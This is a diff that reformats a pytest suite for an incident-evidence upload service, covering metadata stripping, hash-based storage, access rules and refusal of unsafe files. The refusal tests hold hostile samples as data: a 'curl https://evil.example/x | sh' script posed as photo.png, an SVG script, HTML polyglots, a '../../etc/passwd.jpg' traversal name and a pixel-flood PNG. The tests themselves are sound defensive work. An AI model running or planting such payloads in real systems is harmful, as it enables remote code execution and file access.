@@ -37,8 +37,11 @@ def camera_exif(orientation: int | None = None) -> Image.Exif:
 
 def photo(fmt="JPEG", size=(64, 48), color=(200, 30, 30), orientation=None) -> bytes:
     """An image in ``fmt`` carrying GPS EXIF and whatever else the format can hold about its author."""
-    extra = {"JPEG": {"comment": b"Taken by Amina Diallo", "xmp": XMP.encode()}, "WEBP": {"xmp": XMP.encode()},
-             "PNG": {"pnginfo": PngImagePlugin.PngInfo()}}[fmt]
+    extra = {
+        "JPEG": {"comment": b"Taken by Amina Diallo", "xmp": XMP.encode()},
+        "WEBP": {"xmp": XMP.encode()},
+        "PNG": {"pnginfo": PngImagePlugin.PngInfo()},
+    }[fmt]
     if fmt == "PNG":
         extra["pnginfo"].add_text("Author", "Amina Diallo")
         extra["pnginfo"].add_itxt("XML:com.adobe.xmp", XMP)
@@ -55,16 +58,24 @@ def noise_jpeg(size=(64, 48)) -> bytes:
 
 def png_header_claiming(width: int, height: int) -> bytes:
     """A few hundred bytes that announce a gigantic image: a pixel flood."""
+
     def chunk(kind: bytes, body: bytes) -> bytes:
         return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
 
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
-            + chunk(b"IDAT", zlib.compress(b"\x00" * 4096)) + chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
+        + chunk(b"IEND", b"")
+    )
 
 
 def upload(client, incident, data: bytes, name="photo.jpg", **fields):
-    return client.post(f"/incidents/{incident.reference}/evidence/file",
-                       data={"file": (io.BytesIO(data), name)} | fields, content_type="multipart/form-data")
+    return client.post(
+        f"/incidents/{incident.reference}/evidence/file",
+        data={"file": (io.BytesIO(data), name)} | fields,
+        content_type="multipart/form-data",
+    )
 
 
 def fetch(client, path: str):
@@ -86,9 +97,11 @@ pytestmark = pytest.mark.usefixtures("evidence_dir")  # files go to a folder of 
 @pytest.fixture
 def attach(app, personas):
     """Store a file on an incident through the service, as organization A's member."""
+
     def add(incident, data: bytes, **fields) -> Evidence:
-        item = services.add_file_evidence(personas["member_a"], incident,
-                                          storage.prepare_upload(io.BytesIO(data)), **fields)
+        item = services.add_file_evidence(
+            personas["member_a"], incident, storage.prepare_upload(io.BytesIO(data)), **fields
+        )
         db.session.commit()
         return item
 
@@ -111,6 +124,7 @@ def url(incident, item, kind="view") -> str:
 
 
 # Metadata and the sealed original
+
 
 @pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
 def test_display_copy_has_no_exif_gps_maker_note_comment_or_xmp(login, shared, fmt):
@@ -142,7 +156,8 @@ def test_display_copy_is_turned_upright_before_the_orientation_tag_is_dropped(lo
 
 
 def test_same_bytes_on_another_incident_get_the_same_hash_and_one_stored_file(
-        personas, incident_factory, shared, attach, evidence_dir):
+    personas, incident_factory, shared, attach, evidence_dir
+):
     data = photo()
     first = attach(shared, data)
     second = attach(incident_factory(personas["member_a"]), data)
@@ -155,17 +170,23 @@ def test_same_bytes_on_another_incident_get_the_same_hash_and_one_stored_file(
 MARKUP_REFUSED = "The file also contains web page code (HTML or a script)"
 
 
-@pytest.mark.parametrize(("name", "data", "message"), [
-    ("photo.jpg", HTML, "This kind of file is not accepted."),
-    ("file.jpg.html", HTML, "This kind of file is not accepted."),
-    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-     "This kind of file is not accepted."),
-    ("photo.png", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "This kind of file is not accepted."),
-    ("setup.exe", b"MZ\x90\x00" + b"\x00" * 200, "This kind of file is not accepted."),
-    ("empty.jpg", b"", "The file is empty."),
-    ("cut.jpg", noise_jpeg()[:600], "The file could not be read; it may be damaged."),
-    ("polyglot.gif", b"GIF89a" + HTML, MARKUP_REFUSED),
-])
+@pytest.mark.parametrize(
+    ("name", "data", "message"),
+    [
+        ("photo.jpg", HTML, "This kind of file is not accepted."),
+        ("file.jpg.html", HTML, "This kind of file is not accepted."),
+        (
+            "image.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "This kind of file is not accepted.",
+        ),
+        ("photo.png", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "This kind of file is not accepted."),
+        ("setup.exe", b"MZ\x90\x00" + b"\x00" * 200, "This kind of file is not accepted."),
+        ("empty.jpg", b"", "The file is empty."),
+        ("cut.jpg", noise_jpeg()[:600], "The file could not be read; it may be damaged."),
+        ("polyglot.gif", b"GIF89a" + HTML, MARKUP_REFUSED),
+    ],
+)
 def test_file_that_is_not_an_accepted_image_pdf_or_video_is_refused(login, shared, evidence_dir, name, data, message):
     response = upload(login("member_a"), shared, data, name=name)
     assert response.status_code == 422
@@ -175,9 +196,16 @@ def test_file_that_is_not_an_accepted_image_pdf_or_video_is_refused(login, share
 
 @pytest.mark.parametrize("kind", polyglots())
 def test_polyglot_that_is_a_valid_gif_or_pdf_and_a_web_page_is_refused_keeping_what_was_typed(
-        login, shared, evidence_dir, kind):
-    response = upload(login("member_a"), shared, polyglots()[kind], name="screenshot.gif",
-                      description="Threat posted under the video", is_public="y")
+    login, shared, evidence_dir, kind
+):
+    response = upload(
+        login("member_a"),
+        shared,
+        polyglots()[kind],
+        name="screenshot.gif",
+        description="Threat posted under the video",
+        is_public="y",
+    )
     assert response.status_code == 422
     page = response.get_data(as_text=True)
     assert MARKUP_REFUSED in page
@@ -185,10 +213,14 @@ def test_polyglot_that_is_a_valid_gif_or_pdf_and_a_web_page_is_refused_keeping_w
     assert db.session.scalar(select(Evidence)) is None and stored_files(evidence_dir) == set()
 
 
-@pytest.mark.parametrize(("data", "media_type"), [
-    (gif(), "image/gif"), (gif(comment=b"Taken at the rally"), "image/gif"),
-    (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
-])
+@pytest.mark.parametrize(
+    ("data", "media_type"),
+    [
+        (gif(), "image/gif"),
+        (gif(comment=b"Taken at the rally"), "image/gif"),
+        (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
+    ],
+)
 def test_clean_gif_and_pdf_are_still_accepted(login, shared, data, media_type):
     assert upload(login("member_a"), shared, data, name="file.gif").status_code == 302
     assert db.session.scalar(select(Evidence.media_type)) == media_type
@@ -237,11 +269,14 @@ def test_small_file_with_more_pixels_than_max_image_pixels_is_refused(app, share
 
 # Where files live and the names they go out under
 
+
 def test_client_filename_never_reaches_the_disk_or_the_download_name(login, shared, evidence_dir, tmp_path):
     upload(login("member_a"), shared, photo(), name="../../etc/passwd.jpg")
     item = db.session.scalar(select(Evidence))
     assert {path for path in tmp_path.rglob("*") if path.is_file()} == {
-        evidence_dir / item.sha256[:2] / item.sha256, evidence_dir / item.display_sha256[:2] / item.display_sha256}
+        evidence_dir / item.sha256[:2] / item.sha256,
+        evidence_dir / item.display_sha256[:2] / item.display_sha256,
+    }
     disposition = fetch(login("member_a"), url(shared, item, "original")).headers["Content-Disposition"]
     assert disposition == f"attachment; filename={shared.reference}-evidence-{item.id}.jpg"
 
@@ -261,6 +296,7 @@ def test_storage_paths_are_only_ever_built_from_a_sha256(app, name):
 
 
 # Who gets which file
+
 
 def test_filing_organization_downloads_the_original_as_a_sandboxed_attachment(login, shared, attach):
     data = photo()
@@ -327,13 +363,19 @@ def test_withdrawn_evidence_leaves_the_public_site_but_stays_for_members(login, 
     assert fetch(login("member_b"), url(public, item)).status_code == 200
 
 
-@pytest.mark.parametrize(("data", "media_type"), [
-    (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
-    (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64), "video/mp4"),
-    (b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + bytes(64), "video/quicktime"),
-    (b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webmB\x87\x81\x04"
-     b"B\x85\x81\x02" + bytes(64), "video/webm"),
-])
+@pytest.mark.parametrize(
+    ("data", "media_type"),
+    [
+        (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
+        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64), "video/mp4"),
+        (b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + bytes(64), "video/quicktime"),
+        (
+            b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webmB\x87\x81\x04"
+            b"B\x85\x81\x02" + bytes(64),
+            "video/webm",
+        ),
+    ],
+)
 def test_pdf_and_video_are_kept_as_they_are_for_insiders_only(login, shared, attach, data, media_type):
     item = attach(shared, data)
     assert item.media_type == media_type and item.display_sha256 is None
@@ -342,8 +384,9 @@ def test_pdf_and_video_are_kept_as_they_are_for_insiders_only(login, shared, att
     assert fetch(login("member_b"), url(shared, item)).status_code == 404
 
 
-def test_evidence_cannot_be_reached_through_another_incidents_reference(login, personas, shared, incident_factory,
-                                                                        attach):
+def test_evidence_cannot_be_reached_through_another_incidents_reference(
+    login, personas, shared, incident_factory, attach
+):
     other = incident_factory(personas["member_b"], status="draft")
     item = services.add_file_evidence(personas["member_b"], other, storage.prepare_upload(io.BytesIO(photo())))
     db.session.commit()
@@ -353,6 +396,7 @@ def test_evidence_cannot_be_reached_through_another_incidents_reference(login, p
 
 # Custody, integrity, withdrawal
 
+
 def test_each_view_and_download_is_written_to_the_custody_log(login, personas, public, attach):
     item = attach(public, photo(), is_public=True)
     fetch(login("member_b"), url(public, item))
@@ -360,8 +404,10 @@ def test_each_view_and_download_is_written_to_the_custody_log(login, personas, p
     fetch(login("member_a"), url(public, item, "original"))
     expected = {"evidence_id": item.id, "sha256": item.sha256}
     viewed, downloaded = custody("evidence_viewed"), custody("evidence_downloaded")
-    assert [(entry.actor_id, entry.details) for entry in viewed] == [(personas["member_b"].id, expected),
-                                                                     (None, expected)]
+    assert [(entry.actor_id, entry.details) for entry in viewed] == [
+        (personas["member_b"].id, expected),
+        (None, expected),
+    ]
     assert [(entry.actor_id, entry.details) for entry in downloaded] == [(personas["member_a"].id, expected)]
     assert {entry.object_id for entry in viewed + downloaded} == {str(public.id)}
 
@@ -400,6 +446,7 @@ def test_withdrawal_needs_a_reason_and_the_filing_organization(login, shared, at
 
 # Duplicates
 
+
 def test_same_file_twice_on_one_incident_is_refused(login, shared):
     client = login("member_a")
     upload(client, shared, photo())
@@ -408,8 +455,9 @@ def test_same_file_twice_on_one_incident_is_refused(login, shared):
     assert len(db.session.scalars(select(Evidence)).all()) == 1
 
 
-def test_file_on_another_visible_incident_shows_a_409_page_until_confirmed(login, personas, shared, incident_factory,
-                                                                           attach):
+def test_file_on_another_visible_incident_shows_a_409_page_until_confirmed(
+    login, personas, shared, incident_factory, attach
+):
     attach(shared, photo())
     mine = incident_factory(personas["member_b"], title="Same photo, other post")
     client = login("member_b")
@@ -438,14 +486,17 @@ def test_only_the_filing_organization_uploads(login, personas, shared, incident_
 
 # Trauma-aware viewing
 
+
 def test_images_of_a_graphic_incident_are_blurred_until_revealed(login, personas, incident_factory, attach):
     graphic = incident_factory(personas["member_a"], status="published", visibility="public", is_graphic=True)
     item = attach(graphic, photo(), is_public=True)
-    for page in (login("member_b").get(f"/incidents/{graphic.reference}"),
-                 login(None).get(f"/public/incidents/{graphic.reference}")):
+    for page in (
+        login("member_b").get(f"/incidents/{graphic.reference}"),
+        login(None).get(f"/public/incidents/{graphic.reference}"),
+    ):
         html = page.get_data(as_text=True)
         start = html.index('<details class="blurred-evidence">')
-        assert url(graphic, item) in html[start:html.index("</details>", start)]
+        assert url(graphic, item) in html[start : html.index("</details>", start)]
         assert 'class="evidence-image"' not in html
 
 
@@ -454,6 +505,7 @@ def test_person_who_asked_for_blurring_sees_every_image_blurred(login, personas,
     personas["member_b"].blur_evidence = True
     db.session.commit()
     assert '<details class="blurred-evidence">' in login("member_b").get(f"/incidents/{shared.reference}").get_data(
-        as_text=True)
+        as_text=True
+    )
     unblurred = login("member_a").get(f"/incidents/{shared.reference}").get_data(as_text=True)
     assert 'class="evidence-image"' in unblurred and "blurred-evidence" not in unblurred
